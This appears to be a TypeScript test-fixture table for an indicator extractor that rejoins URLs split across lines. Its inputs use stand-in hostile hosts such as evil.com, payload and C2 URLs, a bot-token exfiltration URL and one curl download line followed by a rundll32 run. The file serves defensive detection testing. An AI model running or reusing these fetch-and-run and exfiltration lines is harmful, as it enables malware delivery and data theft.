import type { Table } from './sentence.ts';

/** URLs that a line broke and that go on in the next, beside ends of lines that are ends. */
export const WRAPPED_URLS: Table = {
  'URLs that the end of a line broke': [
    ['http://evil.com/\nadmin and http://evil.com/a?b=1&\nthen', 'url http://evil.com/', 'url http://evil.com/a?b=1&'],
    ['wrapped <http://evil.com/aaaaaaaaaaaaaa/\nbbbbbbbbb> here', 'url http://evil.com/aaaaaaaaaaaaaa/bbbbbbbbb'],
    [
      'Please download it from https://evil.com/downloads/2026/11/campaign-a/\nstage2/payload_01.bin and run',
      'url https://evil.com/downloads/2026/11/campaign-a/stage2/payload_01.bin',
    ],
    [`see http://evil.com/${'a'.repeat(44)}?b=3D1&c=\r\nd=3D2 and x=3D3 at all`, `url http://evil.com/${'a'.repeat(44)}?b=1&cd=2`],
  ],
  'URLs that narrow lines broke before what only an URL holds': [
    [
      'evil[.]com/\ngate.php?id=4 and evil.com/panel/\nadmin/gate.php was',
      'url evil.com/gate.php?id=4',
      'url evil.com/panel/admin/gate.php',
    ],
    ['evil.com/a/\nbad.com/b/\n198.51.100.7/c', 'url evil.com/a/', 'url bad.com/b/', 'url 198.51.100.7/c'],
    [
      'hxxp://evil[.]com\n/gate.php?id=1 and http://evil.com/gate\r\n.php?id=2',
      'url http://evil.com/gate.php?id=1',
      'url http://evil.com/gate.php?id=2',
    ],
    [
      'http://evil.com/a.php\n?id=1&x=2 and http://evil.com/?id=1\n&x=3',
      'url http://evil.com/a.php?id=1&x=2',
      'url http://evil.com/?id=1&x=3',
    ],
    ['http://evil.com/a\n.htaccess, http://evil.com/b\n?? or\n& more', 'url http://evil.com/a', 'url http://evil.com/b'],
    ['http://evil.com/a/\n/b?x=1 and http://evil.com/a\n&b=1', 'url http://evil.com/a/', 'url http://evil.com/a'],
    [
      'calls\nhttps://api.evil.com/bot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw\n/sendDocument to',
      'url https://api.evil.com/bot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendDocument',
    ],
    [
      'calls\nhttps://api.evil.com/bot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw\n/etc/passwd is',
      'url https://api.evil.com/bot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw',
      'unix-path /etc/passwd',
    ],
    ['to http://evil.com/login?user=\njdoe&next=/home in', 'url http://evil.com/login?user=jdoe&next=/home'],
    ['to http://evil.com/login?user=\nnobody knows', 'url http://evil.com/login?user='],
    ['asks\nhttp://evil.com/a/2024/\ncheck.php?id=77 for work', 'url http://evil.com/a/2024/check.php?id=77'],
    ['http://evil.com/%E4%B8%\nAD/x', 'url http://evil.com/%E4%B8%AD/x'],
    [
      'http://evil.com/a/\ncheck.php and http://evil.com/100%\nAdd it',
      'url http://evil.com/a/',
      'filename check.php',
      'url http://evil.com/100%',
    ],
    ['<http://evil.com/aaa/\nbbb/\nccc>, <http://evil.com/ddd\n>', 'url http://evil.com/aaa/bbb/ccc', 'url http://evil.com/ddd'],
    [
      'from http://evil.com/?a=1&\nb=2&\nc=3 and http://evil.com/?a=1&\nb=2&\nso on',
      'url http://evil.com/?a=1&b=2&c=3',
      'url http://evil.com/?a=1&b=2&',
    ],
  ],
  'URLs that go on below themselves': [
    [
      '    URL: hxxp://evil[.]com/updates/\n         2024/check.php?id=77\n    Port: 80',
      'url http://evil.com/updates/2024/check.php?id=77',
    ],
    ['URL: http://evil.com/updates/\n  2024/check.php?id=77', 'url http://evil.com/updates/', 'filename check.php'],
  ],
  'URLs in comments of code': [
    ['// c2: http://evil.com/updates/\n// 2024/check.php?id=77', 'url http://evil.com/updates/2024/check.php?id=77'],
    ['  # http://evil.com/a.php?\n  # id=77', 'url http://evil.com/a.php?id=77'],
    [' * @see http://evil.com/updates/\n *      2024/check.php?id=77\n */', 'url http://evil.com/updates/2024/check.php?id=77'],
    ['* http://evil.com/updates/\n* 2024/check.php?id=77', 'url http://evil.com/updates/', 'filename check.php'],
    ['# http://evil.com/a.php?\n; id=77', 'url http://evil.com/a.php'],
    ['// http://evil.com/a/\n// creates b', 'url http://evil.com/a/'],
    [
      '// https://evil.com/nodejs/node/blob/main/lib/internal/util/inspect.js#L249\n// /^[a-zA-Z_0-9]*$/',
      'url https://evil.com/nodejs/node/blob/main/lib/internal/util/inspect.js#L249',
    ],
  ],
  'schemes at the end of a line': [
    ['at http:\n//evil.com/a.php and hxxp\r\n://bad[.]com/b.php', 'url http://evil.com/a.php', 'url http://bad.com/b.php'],
    ['URL http:\n// comment, text\n://x'],
    ['//evil.com/a\n://evil.com/a', 'url evil.com/a'],
    ['hxxps://\nevil[.]com/a/b and http://\r\n203.0.113.7/a', 'url https://evil.com/a/b', 'url http://203.0.113.7/a'],
    ['all that begins with https://\nis safe, evil.com is not', 'domain evil.com'],
  ],
  'soft breaks of quoted-printable in short lines': [
    ['Go to http://evil.com/a/che=\nck.php?id=3D77 now', 'url http://evil.com/a/check.php?id=77'],
    [
      'http://evil.com/gull/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/yy=\nhttp://bad.com/b',
      'url http://evil.com/gull/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/yy=',
      'url http://bad.com/b',
    ],
    [
      'http://evil.com/gull/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/yy=\nb/c.php',
      'url http://evil.com/gull/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/a1B/yyb/c.php',
    ],
    ['at https://evil.com/sign=\nin/step=\n2.html today', 'url https://evil.com/signin/step2.html'],
    ['jane@evil=\n.com and mail.evil=\r\n.org', 'email jane@evil.com', 'hostname mail.evil.org'],
    ['.sp\n\\-\\-pid=\n.RS 4\n\\-\\-tags=\n.re or\ntotal=\n.com'],
  ],
  'URLs that go on behind a hyphen': [
    ['http://evil.com/aaa/bbb-\nccc.html', 'url http://evil.com/aaa/bbb-ccc.html'],
    ['at http://evil.com/a-\nreport/view.aspx?id=7 it', 'url http://evil.com/a-report/view.aspx?id=7'],
    ['http://evil.com/a-\nand/or', 'url http://evil.com/a-'],
    ['http://evil.com/a-\nthe report.html', 'url http://evil.com/a-', 'filename report.html'],
  ],
  'URLs that were broken behind their question mark': [
    ['<http://evil.com/a?\nx7>', 'url http://evil.com/a?x7'],
    ['Go to http://evil.com/a?\ntoken=1 now', 'url http://evil.com/a?token=1'],
    ['Was it http://evil.com/a?\nToken is bad.', 'url http://evil.com/a'],
    ['http://evil.com/?id=3D12&x=3Dy=\n%20z', 'url http://evil.com/?id=12&x=y%20z'],
    ['http://evil.com/?id=12&x=\nnext', 'url http://evil.com/?id=12&x='],
  ],
  'URLs before the date of the next line': [
    [
      '09/14 18:11 the file x.exe was loaded from hxxps://upd5[.]pro/update/antispam\n09/14 18:20 the tunnel',
      'filename x.exe',
      'url https://upd5.pro/update/antispam',
    ],
    [
      'the file x.exe was loaded from hxxps://upd5[.]pro/updates/of/antispam/\n2024/01/31.zip',
      'filename x.exe',
      'url https://upd5.pro/updates/of/antispam/2024/01/31.zip',
    ],
    [
      '41.07%   kin   hxxp://203.0.113.77/load0f3c9a4417d2be56aa04.php\n0.53%   kin   hxxp://203.0.113.78/',
      'url http://203.0.113.77/load0f3c9a4417d2be56aa04.php',
      'url http://203.0.113.78/',
    ],
  ],
  'endings of pages alone in the next line': [
    ['- evil.com/a/set_up.\nphp\n- bad.com/b', 'url evil.com/a/set_up.php', 'url bad.com/b'],
    ['hxxp://evil[.]com/x.old/tool.\nexe', 'url http://evil.com/x.old/tool.exe'],
    ['It serves evil.com/a/b.\nphp is what it is written in', 'url evil.com/a/b'],
    ['files of evil.com.\nzip\n', 'domain evil.com'],
  ],
  'URLs before a command on the next line': [
    [
      'curl -output 77.png --url hxxps://files.evil.example/4fKq0ZbL/stage/310199.gif\nrundll32.exe 77.png,Run',
      'filename 77.png',
      'url https://files.evil.example/4fKq0ZbL/stage/310199.gif',
      'filename rundll32.exe',
    ],
  ],
  'URLs in quotes and brackets that close on the next line': [
    [
      '(http://evil.com/a/\n203.0.113.7), (http://evil.com/a\nbad.com)',
      'url http://evil.com/a/',
      'ipv4 203.0.113.7',
      'url http://evil.com/a',
      'domain bad.com',
    ],
    [
      '"http://evil.com/js/jquery.min.j\ns" and (http://evil.com/a/b\nc/d.php) ran',
      'url http://evil.com/js/jquery.min.js',
      'url http://evil.com/a/bc/d.php',
    ],
    ['// c2 = "https://evil.com/v1/\n//       events";', 'url https://evil.com/v1/events'],
    ['(http://evil.com/login\ntwice) and "http://evil.com/b\nand then"', 'url http://evil.com/login', 'url http://evil.com/b'],
  ],
  'URLs whose file was broken before or behind its dot': [
    ['they used https://evil.com/dl/Readme_First.\nhtml as lure', 'url https://evil.com/dl/Readme_First.html'],
    ['they used https://evil.com/dl/Setup_v1.2.\n3_x64.exe here', 'url https://evil.com/dl/Setup_v1.2.3_x64.exe'],
    ['they all went to https://evil.com/dl/login.\nso we blocked it', 'url https://evil.com/dl/login'],
    ['they all went to https://evil.com/dl/a.php.\npdf files came', 'url https://evil.com/dl/a.php'],
    ['http://evil.com/a.\nhtml pages', 'url http://evil.com/a'],
  ],
  'URLs before a file in a sentence, in lists and in quotations': [
    ['we saw http://evil.com/room/\n77.jpg.exe twice', 'url http://evil.com/room/77.jpg.exe'],
    ['URL: http://evil.com/room/\nb.exe is run', 'url http://evil.com/room/', 'filename b.exe'],
    ['| saw http://evil.com/room/\n| a.exe twice', 'url http://evil.com/room/a.exe'],
    ['| saw | http://evil.com/room/\n| a.exe | twice |', 'url http://evil.com/room/', 'filename a.exe'],
    ['2. see http://evil.com/updates/\n   2024/check.php?id=77', 'url http://evil.com/updates/2024/check.php?id=77'],
    ['- http://evil.com/?a=1&\n  b=2\n- x', 'url http://evil.com/?a=1&b=2'],
    ['see http://evil.com/?a=1&\n  b=2', 'url http://evil.com/?a=1&'],
    ['C2: http://evil.com/v2/\nforecast/update', 'url http://evil.com/v2/forecast/update'],
    ['C2: http://evil.com/v2/\nadmin/login\nadmin/upload', 'url http://evil.com/v2/'],
    ['get http://evil.com/get?file=Bill-2024-\n0815.zip&dl=1 now', 'url http://evil.com/get?file=Bill-2024-0815.zip&dl=1'],
    [
      'May 17 09:12:44 web01 apache[1182]: 203.0.113.77 "GET http://evil.com/drop/a\n/b/reverse.sh HTTP/1.1"',
      'ipv4 203.0.113.77',
      'url http://evil.com/drop/a/b/reverse.sh',
    ],
    [
      'They were found at https://gardens.evil.com/wp-content/plugins/\nakismet/kit/\noffice365.zip',
      'url https://gardens.evil.com/wp-content/plugins/akismet/kit/office365.zip',
    ],
  ],
  'URLs whose host the next line makes whole': [
    [
      'at http://files.q\nuick-share.com/inv/ and hxxps://cdn[.]fonts-del\r\nivery[.]com/x',
      'url http://files.quick-share.com/inv/',
      'url https://cdn.fonts-delivery.com/x',
    ],
    [
      'http://intranet\nevil.com, http://evil.com\nbad.com and http://a.corp\nevil.org',
      'url http://intranet',
      'domain evil.com',
      'url http://evil.com',
      'domain bad.com',
      'url http://a.corp',
      'domain evil.org',
    ],
    ['http://evil.readme\nnotes.md and https://evil.cdn\nis', 'url http://evil.readme', 'filename notes.md', 'url https://evil.cdn'],
    [
      'see http://\nan5ov2xuxpzg3wv6ojlkqkknyuw2jdkxlijepnoc\nlggepxt25ov7bdad.onion/a',
      'url http://an5ov2xuxpzg3wv6ojlkqkknyuw2jdkxlijepnoclggepxt25ov7bdad.onion/a',
    ],
  ],
  'URLs at the end of a line in which the next word has no room': [
    [
      'The kit posts what it steals to https://api.evil.com/\nbot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendDocument\nand so on',
      'url https://api.evil.com/bot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendDocument',
    ],
    [
      'A second stage is decrypted in\nmemory, from hxxp://evil[.]com/k/\n8f2e.bin that was put there and\nis gone',
      'url http://evil.com/k/8f2e.bin',
    ],
    ['It is in\nhttp://evil.com/k/\n8f2e.bin\nb.bin', 'url http://evil.com/k/', 'filename 8f2e.bin', 'filename b.bin'],
    ['We report on http://evil.com/k/\n2024 and all of what it has brought to us', 'url http://evil.com/k/'],
    [
      'that one long line leads to the page of http://evil.com/a?b=1&red\nir=http%3A%2F%2Fbad.com',
      'url http://evil.com/a?b=1&redir=http%3A%2F%2Fbad.com',
    ],
    [
      'The licence of all of this is found at http://evil.com/LICENSE-2.0\n/usr/share/common-licenses/Apache-2.0 and',
      'url http://evil.com/LICENSE-2.0',
      'unix-path /usr/share/common-licenses/Apache-2.0',
    ],
    [
      'All of this text is from the pages of https://evil.com/html/rfc7540\n[HTTP/2]: x\nhttp://evil.com/a/\nmailto:a@evil.com',
      'url https://evil.com/html/rfc7540',
      'url http://evil.com/a/',
      'email a@evil.com',
    ],
  ],
};
